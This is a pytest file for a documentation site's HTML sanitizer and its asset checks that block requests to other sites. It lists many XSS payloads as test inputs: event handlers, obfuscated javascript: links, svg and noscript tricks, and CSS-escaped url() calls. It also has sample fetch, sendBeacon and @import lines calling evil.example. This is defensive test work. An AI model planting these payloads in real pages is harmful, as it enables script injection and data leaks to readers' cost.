"""Unit tests of reader safety: nh3's allowlist on content, the built-page check, text fields."""

from __future__ import annotations

import html
import nh3
import re

import pytest

from conftest import ROOT
from glossary.render import term_heading
from safety.allowlist import nh3_arguments
from safety.built_page import leaves_the_site, page_problems
from safety.precheck import EXTENSIONS, NOT_PRECHECKED, raw_html_problems
from safety.sanitize import refusals, sanitize
from safety.sources import line_of
from safety.text_fields import escaped_meta

# (raw HTML a contributor might write, a phrase the refusal must contain)
HOSTILE = [
    ("<script>alert(1)</script>", "<script> is not allowed"),
    ('<img src="x.png" onerror="alert(1)">', "onerror"),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', '"JaVaScRiPt:alert(1)"'),
    ('<a href="java&#x09;script:alert(1)">x</a>', "is not allowed: links go to"),
    ('<a href="&#106;avascript:alert(1)">x</a>', "is not allowed: links go to"),
    ('<a href="data:text/html,<script>alert(1)</script>">x</a>', "never javascript:, data:"),
    ('<img src="data:image/svg+xml,<svg onload=alert(1)>">', "never javascript:, data:"),
    ("<svg><script>alert(1)</script></svg>", "<script> is not allowed"),
    ('<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', "is not allowed: links go to"),
    ('<svg><use href="//evil.example/x.svg#a"/></svg>', "<use> is not allowed"),
    ("<math><mi>x</mi></math>", "<math> is not allowed"),
    ('<p style="background:url(//evil.example/x.png)">x</p>', 'inline style "background:url'),
    ('<base href="//evil.example/">', "<base> is not allowed"),
    ('<meta http-equiv="refresh" content="0;url=http://evil.example">', "<meta> is not allowed"),
    ('<form action="https://evil.example"><button>Go</button></form>', "<form> is not allowed"),
    ('<iframe src="https://evil.example"></iframe>', "<iframe> is not allowed"),
    ('<video src="v.mp4" poster="https://evil.example/p.png"></video>', "<video> is not allowed"),
    ('<object data="x.swf"></object>', "<object> is not allowed"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link> is not allowed"),
    ("<style>body{background:url(https://evil.example)}</style>", "<style> is not allowed"),
    ('<h1 id="x" onclick="alert(1)">H</h1>', 'onclick="alert(1)" on <h1>'),
    ('<details open ontoggle="alert(1)"><summary>x</summary></details>', "ontoggle"),
    ('<input type="text" autofocus onfocus="alert(1)">', "onfocus"),
    ('<div data-md-component="search">x</div>', "data-md-component"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>', "<noscript> is not allowed"),
    ('<template><img src=x onerror=alert(1)></template>', "<template> is not allowed"),
    ('<a href="x" target="_blank">x</a>', "attribute target on <a>"),
    ('<img src="https://evil.example/x.png" alt="x">', "loads a file from outside the site"),
    ('<img src="//evil.example/x.png" alt="x">', "loads a file from outside the site"),
]


@pytest.mark.parametrize("raw,says", HOSTILE)
def test_hostile_html_is_refused_with_a_reason(raw, says):
    result = sanitize(f"<p>before</p>{raw}<p>after</p>")
    assert result.refused, f"nothing refused in {raw!r}"
    assert any(says in sentence for sentence in result.refused), result.refused
    published = result.html.lower()
    assert "<script" not in published and "javascript:" not in published and " on" not in published.replace(" one", "")


# Markup this project writes itself (Markdown, Material, pymdownx, term card, diagrams).
OWN_MARKUP = [
    '<h2 id="x">X<a class="headerlink" href="#x" title="Permanent link">¶</a></h2>',
    '<table><thead><tr><th style="text-align: right;">a</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
    '<div class="admonition note"><p class="admonition-title">Note</p><p>x</p></div>',
    '<details class="question" open><summary>Q</summary><p>A</p></details>',
    '<div class="tabbed-set tabbed-alternate" data-tabs="1:2"><input checked="checked" id="__tabbed_1_1" name="__tabbed_1" type="radio"><div class="tabbed-labels"><label for="__tabbed_1_1">A</label></div></div>',
    '<figure class="diagram" data-diagram="rag-flow"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 720 191.6" width="100%" style="max-width: 720px" role="img" aria-labelledby="t d"><title id="t">T</title><desc id="d">D</desc><path class="dg-arrow" d="M1 2 L3 4 Z"/><rect class="dg-box" x="0" y="1" width="2" height="3" rx="6"/><text class="dg-label" font-size="14" text-anchor="middle"><tspan x="1" y="2">a</tspan></text><circle class="c" cx="1" cy="2" r="3"/></svg><figcaption>c</figcaption></figure>',
    '<p class="term-card__facts" data-search-exclude><span class="term-card__level term-card__level--beginner">x</span></p>',
    '<a class="glossary-term" href="../rag/" title="先查资料" data-term="rag">RAG</a>',
    '<p>x<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup></p><div class="footnote"><hr><ol><li id="fn:1"><p>n<a class="footnote-backref" href="#fnref:1" title="Jump back">&#8617;</a></p></li></ol></div>',
    '<p><kbd class="key-ctrl">Ctrl</kbd> <mark>m</mark> <ins>i</ins> <del>d</del> <sub>s</sub> <abbr title="HyperText">HTML</abbr></p>',
    '<p><img alt="logo" src="../assets/logo.png" width="40"> <a href="https://example.com/paper">paper</a> <a href="mailto:a@b.c">mail</a></p>',
    '<span class="emoji" role="img" aria-label="warning">⚠️</span><span lang="en">RAG</span>',
]


@pytest.mark.parametrize("markup", OWN_MARKUP)
def test_the_projects_own_markup_passes(markup):
    assert sanitize(markup).refused == []
    assert refusals(markup) == []


def test_the_handouts_recheck_refuses_what_nh3_removes_and_passes_what_it_keeps():
    kept = '<p class="x">a &amp; b</p>'  # as nh3 writes it: nothing to remove
    assert nh3.clean(kept, **nh3_arguments()) == kept and refusals(kept) == []
    assert refusals(kept + '<p onclick="alert(1)">b</p>') == [
        'the attribute onclick="alert(1)" on <p> would run script; remove it.']


def test_only_values_that_can_fetch_are_looked_at_for_addresses():
    assert sanitize('<p style="text-align: right">a</p>').refused == []
    for raw in ('<svg><rect fill="URL(https://evil.example/a.svg#g)"/></svg>',
                r'<svg><rect fill="u\72l\28https://evil.example/b.svg#g)"/></svg>'):
        assert any("loads a file from outside the site" in s for s in sanitize(raw).refused), raw


def test_title_attributes_are_escaped_for_materials_tooltip():
    published = sanitize('<a href="x" title="a&lt;b&gt;c &amp; R&amp;D &lt;img src=x onerror=alert(1)&gt;">x</a>').html
    # The attribute's value is HTML once more: Material's tooltip shows it as the text written.
    value = html.unescape(published.split('title="')[1].split('"')[0])
    assert value == "a&lt;b&gt;c &amp; R&amp;D &lt;img src=x onerror=alert(1)&gt;"
    assert html.unescape(value) == "a<b>c & R&D <img src=x onerror=alert(1)>"


def test_the_line_of_a_refusal_skips_front_matter():
    source = "---\ntitle: x\ndescription: '<script>'\n---\n\ntext\n\n<script>alert(1)</script>\n"
    assert line_of(source, sanitize("<script>alert(1)</script>").refused[0]) == 8


@pytest.mark.parametrize("url,outside", [
    ("https://evil.example/x.png", True), ("HTTP://evil.example", True), ("//evil.example/x", True),
    ("/\\evil.example/x", True), (" \thttps://evil.example", True), ("ftp://x/y", True),
    ("../assets/x.png", False), ("/assets/x.png", False), ("#top", False), ("x.png?a=b:c", False),
    ("data:image/png;base64,AAAA", False),
])
def test_what_leaves_the_site(url, outside):
    assert leaves_the_site(url) is outside


def test_built_page_finds_every_request_outside_the_site():
    page = ('<link rel="stylesheet" href="https://cdn.example/x.css"><script src="//cdn.example/x.js"></script>'
            '<img srcset="a.png 1x, https://evil.example/b.png 2x"><video poster="https://evil.example/p.png"></video>'
            '<iframe src="https://evil.example"></iframe><audio src="http://evil.example/a.mp3"></audio>'
            '<source src="https://evil.example/s.mp4"><embed src="https://evil.example/e"><object data="//evil.example/o"></object>'
            '<p style="background:url( \'//evil.example/x.png\' )"></p><style>@import "https://evil.example/i.css";</style>'
            '<meta http-equiv="refresh" content="0; url=https://evil.example"><a href="https://example.com">fine</a>'
            '<img src="../assets/ok.png">')
    problems = page_problems(page)
    assert len(problems) == 12, problems
    assert not any("example.com" in p or "ok.png" in p for p in problems)


def test_built_page_finds_script_in_attributes():
    problems = page_problems('<body onload="x()"><a href=" javascript:alert(1)">x</a><form action="vbscript:x"></form>')
    assert len(problems) == 3, problems


def test_front_matter_text_is_escaped_once_for_the_theme():
    meta = {"title": "a<b>c & \"R&D\"", "description": '"><script>alert(1)</script>', "order": 3, "status": "new"}
    assert escaped_meta(meta) == {"title": "a&lt;b&gt;c &amp; &quot;R&amp;D&quot;",
                                  "description": "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;", "status": "new"}


def test_attr_list_syntax_in_a_title_stays_text():
    class Term:
        display_title = "RAG {: onclick=\"alert(1)\" }"
    assert term_heading(Term()) == '# RAG \\{: onclick="alert(1)" }\n'


def test_make_check_gives_the_builds_message_with_its_line():
    page = "---\ntitle: x\n---\n\n# X {: onclick=\"alert(1)\" }\n\n```html\n<script>shown as code</script>\n```\n\n[x](javascript:alert(1))\n"
    found = [str(p) for p in raw_html_problems("compare/x.md", page)]
    assert found == [
        'compare/x.md:5: the attribute onclick="alert(1)" on <h1> would run script; remove it.',
        'compare/x.md:11: the link "javascript:alert(1)" on <a> is not allowed: links go to the site\'s own '
        "pages or to http:, https:, mailto: addresses (never javascript:, data: or file:). Fix or remove it.",
    ]


def test_the_precheck_renders_with_the_sites_markdown_extensions():
    config = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
    section = config[config.index("markdown_extensions:"):config.index("# --- 6.")]
    names = set(re.findall(r"^  - ([\w.]+)", section, re.MULTILINE))
    assert names == set(EXTENSIONS) | NOT_PRECHECKED


def test_aliases_are_text_in_the_search_index():
    from search.index import fold_term_pages
    docs = [{"location": "terms/x/", "title": "X", "text": "t"}]
    folded = fold_term_pages(docs, {"terms/x/": ["<img/src=x/onerror=alert(1)>", "R&D"]}, r"[\s]+")
    assert folded[0]["tags"] == ["&lt;img/src=x/onerror=alert(1)&gt;", "R&amp;D"]


def test_a_repeated_id_and_an_outside_url_in_an_svg_attribute_are_page_problems():
    from safety.built_page import page_problems, repeated_ids
    page = ('<script id="__config" type="application/json">{}</script><p id="__config">{}</p>'
            '<svg><rect fill="url(#local)"/><rect stroke="url(https://evil.example/x.svg#g)"/></svg>')
    assert repeated_ids(page) == ["__config"]
    problems = page_problems(page)
    assert any("url(https://evil.example/x.svg#g)" in p for p in problems)
    assert not any("#local" in p for p in problems)


def test_the_themes_own_classes_are_found_in_content():
    from safety.built_page import theme_classes
    assert theme_classes('<p class="md-dialog md-dialog--active x">a</p><p class="admonition">b</p>') == [
        "md-dialog", "md-dialog--active"]
    assert theme_classes('<div class="term-card"><span class="twemoji">x</span></div>') == []


def test_make_check_reports_the_themes_classes_with_the_builds_sentence():
    from safety.built_page import theme_class_sentence
    from safety.precheck import raw_html_problems
    text = "---\ntitle: X\n---\n\nText.\n\nHeader class\n{: .md-dialog }\n"
    assert [(p.line, p.message) for p in raw_html_problems("x.md", text)] == [
        (8, theme_class_sentence("md-dialog"))]


def test_make_check_reports_ids_the_theme_or_a_preview_card_uses():
    from safety.built_page import id_sentence
    from safety.precheck import raw_html_problems
    text = ('---\ntitle: X\n---\n\n{"base": "x"}\n{: id="__config" }\n\n'
            '<p id="term-preview-rag">Forged</p>\n\n<p id="a">1</p>\n\n<p id="a">2</p>\n')
    assert [(p.line, p.message) for p in raw_html_problems("x.md", text)] == [
        (6, id_sentence("__config")), (8, id_sentence("term-preview-rag")), (12, id_sentence("a"))]


def test_ids_a_pages_content_repeats_or_reserves_are_found_once_each():
    from safety.built_page import reserved_or_repeated_ids
    content = ('<p id="a"></p><p id="b"></p><p id="a"></p><p id="a"></p><p id="__x"></p>'
               '<p id="__tabbed_1_1"></p><p id="__tabbed_1_1"></p>')
    assert reserved_or_repeated_ids(content) == ["a", "__x", "__tabbed_1_1"]


def test_css_escapes_do_not_hide_an_outside_address():
    """Chromium fetches fill="url(\\68ttps://…)" and fill="u\\72l(https://…)" (tried by hand)."""
    for raw in (r'<svg><rect fill="url(\68ttps://evil.example/a.svg#g)"/></svg>',
                r'<svg><rect fill="u\72l(https://evil.example/b.svg#g)"/></svg>',
                r'<svg><rect fill="url(\2f\2f evil.example/c.svg#g)"/></svg>'):
        assert any("loads a file from outside the site" in s for s in sanitize(raw).refused), raw
        assert any("outside the site" in p for p in page_problems(raw)), raw
    assert sanitize('<svg><rect fill="url(#local)"/></svg>').refused == []


def test_a_mermaid_block_would_make_the_theme_fetch_mermaid_from_unpkg():
    from safety.built_page import theme_classes
    text = '---\ntitle: X\n---\n\n<pre class="mermaid">graph TD; A-->B</pre>\n\n```mermaid\ngraph TD\n```\n'
    found = [(p.line, p.message) for p in raw_html_problems("x.md", text)]
    assert len(found) == 1 and found[0][0] == 5 and "unpkg.com" in found[0][1], found
    # Material's bundle: `M("pre.mermaid", e).map(i => Zn(i))` loads https://unpkg.com/mermaid@11.
    bundle = next((ROOT / ".venv").glob("lib/python*/site-packages/material/templates/assets/javascripts/bundle.*.min.js"))
    assert '"pre.mermaid"' in bundle.read_text(encoding="utf-8") and "unpkg.com/mermaid" in bundle.read_text(encoding="utf-8")
    assert theme_classes('<pre class="x mermaid">a</pre>') == ["mermaid"]


STYLESHEET = """/* url(https://in-a-comment.example/x.png) is not read */
@namespace svg url(http://www.w3.org/2000/svg);
@import url(https://evil.example/a.css);
@import "//evil.example/b.css";
.a { background: url( "https://evil.example/c.png" ); }
.b { background: url(../images/ok.png), url('data:image/svg+xml,%3Csvg xmlns="http://www.w3.org/2000/svg"/%3E'); }
.c { background-image: image-set("../x.png" 1x, "https://evil.example/d.png" 2x); }
.d { background: u\\72l(\\68ttps://evil.example/e.png); }
@font-face { font-family: X; src: local("X"),
  url(
    "https://evil.example/f.woff2") format("woff2"); }
"""
SCRIPT = """// "https://in-a-comment.example/" is not a request, but a quoted address is refused anyway
const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
fetch("https://evil.example/a");
importScripts('//evil.example/b.js');
new WebSocket(`wss://evil.example/${room}`);
navigator.sendBeacon("http://evil.example/c", data);
const ok = "../search/search_index.json", path = "//", note = "a // b";
"""


def test_stylesheets_and_scripts_name_no_other_sites_address():
    from safety.asset_files import script_addresses, stylesheet_addresses
    assert stylesheet_addresses(STYLESHEET) == [
        (3, "https://evil.example/a.css"), (4, "//evil.example/b.css"), (5, "https://evil.example/c.png"),
        (7, "https://evil.example/d.png"), (8, "https://evil.example/e.png"), (11, "https://evil.example/f.woff2")]
    assert script_addresses(SCRIPT) == [
        (1, "https://in-a-comment.example/"), (3, "https://evil.example/a"), (4, "//evil.example/b.js"),
        (5, "wss://evil.example/${room}"), (6, "http://evil.example/c")]


def test_the_sites_own_stylesheets_and_scripts_pass():
    from checks import default_template_dirs
    from checks.assets import asset_problems, published_assets
    docs = ROOT / "docs"
    mine = published_assets(docs, default_template_dirs(docs))
    assert {"docs/assets/javascripts/term-preview.js", "docs/assets/stylesheets/extra.css"} <= set(mine)
    assert not any("site-packages" in str(path) for path in mine.values())  # Material's are its own
    assert asset_problems(docs, default_template_dirs(docs)) == []
    from safety.asset_files import script_addresses  # the search hook's worker is published too
    assert script_addresses((ROOT / "hooks/search/reader_queries.js").read_text(encoding="utf-8")) == []


def test_make_check_refuses_a_stylesheet_or_script_that_asks_another_site(tmp_path):
    from checks import all_problems
    import shutil
    docs = tmp_path / "docs"
    shutil.copytree(ROOT / "docs", docs)
    (docs / "assets/stylesheets/extra.css").write_text(
        (docs / "assets/stylesheets/extra.css").read_text(encoding="utf-8") + "\n@import url(https://evil.example/x.css);\n",
        encoding="utf-8")
    (docs / "assets/javascripts/new.js").write_text('\nfetch("https://evil.example/track");\n', encoding="utf-8")
    found = [str(p) for p in all_problems(docs)]
    lines = (docs / "assets/stylesheets/extra.css").read_text(encoding="utf-8").count("\n")
    assert [p for p in found if "another site" in p] == [
        f"assets/javascripts/new.js:2: this script makes readers' browsers ask another site for "
        "'https://evil.example/track'. Readers on the intranet cannot reach it, and the site makes no request "
        "outside itself. Copy the file into docs/assets/ and use it from there (a path relative to this file), "
        "or remove the line.",
        f"assets/stylesheets/extra.css:{lines}: this stylesheet makes readers' browsers ask another site for "
        "'https://evil.example/x.css'. Readers on the intranet cannot reach it, and the site makes no request "
        "outside itself. Copy the file into docs/assets/ and use it from there (a path relative to this file), "
        "or remove the line."]


def test_hidden_text_in_a_pages_own_html_is_refused_at_its_line():
    from safety.precheck import raw_html_problems
    text = ('---\ntitle: X\n---\n\nA word on hidden things is fine.\n\n<p hidden>secret words</p>\n\n'
            'By attr_list\n{: hidden="" }\n\n<div class="glossary-print-list">x</div>\n\n'
            '<span style="vertical-align: -9999px">far</span> <span style="vertical-align: middle">ok</span>\n\n'
            '??? note "Opens"\n    Text a reader opens is fine.\n')
    found = [(p.line, p.message.split(" hides")[0].split(" can")[0]) for p in raw_html_problems("x.md", text)]
    assert found == [(7, "the attribute 'hidden' on <p>"), (10, "the attribute 'hidden' on <p>"),
                     (12, "the class 'glossary-print-list' is the site's own and"),
                     (14, "the style 'vertical-align:-9999px' on <span>")], found


def test_the_hiding_classes_are_the_ones_our_css_hides_on_screen():
    """Every class our screen CSS sets to display: none (print.css is for paper) is in the list."""
    from safety.hiding import HIDING_CLASSES
    hidden = set()
    for name in ("extra.css", "term-preview.css"):
        css = (ROOT / "docs/assets/stylesheets" / name).read_text(encoding="utf-8")
        css = re.sub(r"@media print\s*\{(?:[^{}]*\{[^{}]*\})*[^{}]*\}", "", re.sub(r"/\*.*?\*/", "", css, flags=re.S))
        for selectors, body in re.findall(r"([^{}]+)\{([^{}]*)\}", css):
            if re.search(r"display\s*:\s*none", body):
                hidden |= {c for c in re.findall(r"\.([\w-]+)", selectors.split(",")[-1].split()[-1])
                           if not c.startswith("md-")}
    hidden |= set(re.findall(r"^\.([\w-]+) \{ display: none; \}", (ROOT / "docs/assets/stylesheets/print.css")
                             .read_text(encoding="utf-8"), re.M))  # print.css's screen-only rules
    assert hidden and hidden <= HIDING_CLASSES, hidden - HIDING_CLASSES


def test_search_exclude_only_on_the_printed_documents_and_no_boost():
    from core.sources import read_pages, split_front_matter
    from safety.hiding import SEARCH_EXCLUDED, search_field_problems
    pages = read_pages(ROOT / "docs")
    excluded = {path for path, text in pages.items()
                if ((split_front_matter(path, text)[0] or {}).get("search") or {}).get("exclude")}
    assert {p.replace(".en.md", ".md") for p in excluded} == SEARCH_EXCLUDED  # every one used, in both languages
    text = "---\ntitle: X\nsearch:\n  exclude: true\n  boost: 9\n---\n"
    found = [(p.line, p.message[:20]) for p in search_field_problems("terms/x.md", {"search": {"exclude": True, "boost": 9}}, text)]
    assert found == [(3, "'search: exclude' ta"), (3, "'search: boost' puts")]
    assert search_field_problems("trainer-notes.en.md", {"search": {"exclude": True}}, text) == []


# Material's own scripts and stylesheets are published too. The addresses on other sites they
# name, and why a reader's browser never asks for them on this site. A Material upgrade that
# adds one fails here, for someone to judge.
MATERIAL_ADDRESSES = {
    # pre.mermaid in a page: refused (built_page.theme_classes), and dropped from a refused build.
    "https://unpkg.com/mermaid@11/dist/mermaid.min.js": "class mermaid",
    # Only where window.ResizeObserver is missing: browsers older than Chrome 64, Firefox 69,
    # Safari 13.1 (2018-2020). Those would ask unpkg.com and fail; nothing else breaks by it.
    "https://unpkg.com/resize-observer-polyfill": "old browsers",
    # Repository facts, only with `repo_url` (the header's source link, data-md-component="source").
    "https://api.github.com/repos/${e}/${t}": "repo_url", "https://api.github.com/users/${e}": "repo_url",
    "https://${e}/api/v4/projects/${encodeURIComponent(t)}": "repo_url",
    # lunr/wordcut.js: `ch=="\u2003"//nbsp and emsp`, a comment after a string, not an address.
    "//nbsp": "a comment",
}


def test_materials_bundled_assets_name_only_addresses_this_site_never_requests():
    from safety.asset_files import script_addresses, stylesheet_addresses
    assets = next((ROOT / ".venv").glob("lib/python*/site-packages/material/templates/assets"))
    found = {}
    for path in [*assets.rglob("*.js"), *assets.rglob("*.css")]:
        text = path.read_text(encoding="utf-8", errors="replace")
        for _, address in (stylesheet_addresses if path.suffix == ".css" else script_addresses)(text):
            found[address] = path.name
    assert set(found) == set(MATERIAL_ADDRESSES), found
    config = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
    assert not re.search(r"^repo_url:", config, re.M)  # the edit links use extra.git_host instead
    assert re.search(r"^  font: false$", config, re.M)  # else base.html links fonts.googleapis.com
    html = (ROOT / ".venv").glob("lib/python*/site-packages/material/templates/partials/source.html")
    assert 'data-md-component="source"' in next(html).read_text(encoding="utf-8")
    assert any("data-md-component" in s for s in sanitize('<div data-md-component="source">x</div>').refused)


def test_hidden_text_from_a_snippet_is_said_to_be_in_the_snippet():
    from safety.hiding import hidden_text_problems
    source = '---\ntitle: X\n---\n\n--8<-- "notes.md"\n'
    [problem] = hidden_text_problems("faq.md", source, "<p>Text.</p><p hidden>from the snippet</p>")
    assert problem.line == 1 and problem.message.endswith("(It is in a snippet this page includes, in docs/_snippets/.)")
